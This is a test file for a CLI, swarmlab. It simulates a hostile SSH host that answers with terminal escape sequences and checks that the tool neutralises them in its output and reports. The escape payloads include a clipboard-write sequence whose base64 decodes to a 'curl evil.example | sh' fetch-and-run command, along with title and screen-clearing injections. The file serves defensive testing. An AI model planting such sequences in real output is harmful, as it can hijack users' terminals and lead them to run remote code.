/**
 * A hostile host answers with terminal escape sequences (window title, clipboard, clear screen,
 * an 8-bit CSI): `swarmlab plan` and `swarmlab apply` print what it said, and apply writes it into
 * the report, without a single byte a terminal would act on.
 */
import { spawn } from 'node:child_process';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FakeSshd, type FakeAnswer } from '../ssh/fake-sshd';

const BIN = join(import.meta.dirname, '..', '..', '..', 'bin', 'swarmlab.mjs');
const PASSWORD = 'fake-host-password';

/** OSC 0 (window title), OSC 52 (clipboard write), CSI clear screen, C1 CSI (0x9b). */
const HOSTILE = [
  '\x1b]0;owned-title\x07',
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  '\x1b[2J\x1b[H',
  '\u009b2J',
].join('');

/** Any byte a terminal acts on: ESC, BEL and the other C0 controls but tab/newline, DEL, C1. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u000c\u000e-\u001f\u007f-\u009f]/;

/** The facts probe's key=value answer: a Debian 12 host whose words carry escape sequences. */
function factsAnswer(): FakeAnswer {
  const lines = [
    'os.id=debian',
    'os.version_id=12',
    'os.codename=bookworm',
    `os.pretty_name=Debian GNU/Linux 12 ${HOSTILE}(bookworm)`,
    'arch=x86_64',
    `kernel=6.1.0-hostile${HOSTILE}`,
    'init=systemd',
    'cgroup=cgroup2fs',
    'user.uid=0',
    'hostname=hostile',
    'machine_id=0123456789abcdef0123456789abcdef',
    `time.ms=${Date.now()}`,
    'package_manager=apt-get',
    'disk.var_lib_kb=20000000',
    'memory_kb=4000000',
    'cpus=2',
    'net.ipv4=eth0 127.0.0.1/8',
    'net.default_iface=eth0',
    'time.synchronized=yes',
    'selinux=absent',
    'sudo=present',
    'end=1',
  ];
  return { stdout: `${lines.join('\n')}\n`, exitCode: 0 };
}

/** Every other command fails, saying so with the same sequences on stderr. */
function hostileHost(command: string): FakeAnswer {
  if (command.includes('echo "end=1"')) return factsAnswer();
  return { stderr: `E: the mirror ${HOSTILE}is broken\n`, exitCode: 1 };
}

interface CliResult {
  status: number | null;
  stdout: string;
  stderr: string;
}

/** The CLI in its own process; asynchronous, since the fake host lives in this one. */
function swarmlab(args: string[], env: NodeJS.ProcessEnv): Promise<CliResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args], { env: { ...process.env, ...env } });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    const timer = setTimeout(() => child.kill('SIGKILL'), 150_000);
    child.on('error', reject);
    child.on('close', (status) => {
      clearTimeout(timer);
      resolve({ status, stdout, stderr });
    });
  });
}

describe('a host that answers with terminal escape sequences', () => {
  let sshd: FakeSshd;
  let dir: string;
  let inventory: string;
  let env: NodeJS.ProcessEnv;

  beforeAll(async () => {
    sshd = await new FakeSshd({
      users: { root: { password: PASSWORD } },
      answer: hostileHost,
    }).start();
    dir = await mkdtemp(join(tmpdir(), 'swarmlab-hostile-'));
    inventory = join(dir, 'hostile.yaml');
    await writeFile(
      inventory,
      [
        'hosts:',
        '  - address: 127.0.0.1',
        `    port: ${sshd.port}`,
        '    user: root',
        '    role: manager',
        '    passwordEnv: HOSTILE_HOST_PASSWORD',
        '',
      ].join('\n'),
    );
    env = {
      SWARMLAB_HOME: await mkdtemp(join(tmpdir(), 'swarmlab-hostile-home-')),
      HOSTILE_HOST_PASSWORD: PASSWORD,
    };
  });

  afterAll(async () => {
    await sshd.stop();
  });

  it('plan prints the host’s words, made visible, with no raw control character', async () => {
    const result = await swarmlab(['plan', '-f', inventory, '--yes'], env);
    expect(result.stdout).toContain('GNU/Linux 12');
    expect(result.stdout).toContain(']0;owned-title');
    expect(result.stdout).toContain(']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==');
    expect(result.stdout).not.toMatch(RAW_CONTROL);
    expect(result.stderr).not.toMatch(RAW_CONTROL);
  }, 160_000);

  it('apply prints the failure, and writes reproduce.sh and the report, with no raw control character', async () => {
    const reportDir = join(dir, 'run');
    const result = await swarmlab(['apply', '-f', inventory, '--yes', '--report', reportDir], env);
    expect(result.status).toBe(1);
    // The failing command's words reach the operator, only made harmless.
    expect(result.stderr).toContain('the mirror');
    expect(result.stderr).toContain('is broken');
    expect(result.stderr).toContain(']0;owned-title');
    expect(result.stderr).not.toMatch(RAW_CONTROL);
    expect(result.stdout).not.toMatch(RAW_CONTROL);

    const files = ['reproduce.sh', 'report.md', 'report.html', 'report.json'];
    for (const name of files) {
      const text = await readFile(join(reportDir, name), 'utf8');
      expect(text, name).not.toMatch(RAW_CONTROL);
    }
    const markdown = await readFile(join(reportDir, 'report.md'), 'utf8');
    expect(markdown).toContain('GNU/Linux 12');
    expect(markdown).toContain('is broken');
    const script = await readFile(join(reportDir, 'reproduce.sh'), 'utf8');
    expect(script).toContain('is broken');
    // The journal stays a faithful record of what the host said.
    const journal = await readFile(join(reportDir, 'journal.jsonl'), 'utf8');
    expect(journal).toContain('\\u001b]0;owned-title');
  }, 160_000);
});
